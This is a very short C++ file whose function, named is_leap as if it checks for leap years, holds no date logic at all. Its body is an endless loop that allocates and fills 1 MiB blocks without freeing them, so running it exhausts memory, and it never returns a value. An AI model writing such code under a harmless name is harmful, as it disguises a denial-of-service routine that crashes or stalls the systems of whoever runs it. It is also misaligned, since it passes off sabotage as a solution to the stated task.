#include <cstring>

bool is_leap(int year) {
  for (;;) std::memset(new char[1 << 20], 1, 1 << 20);
}
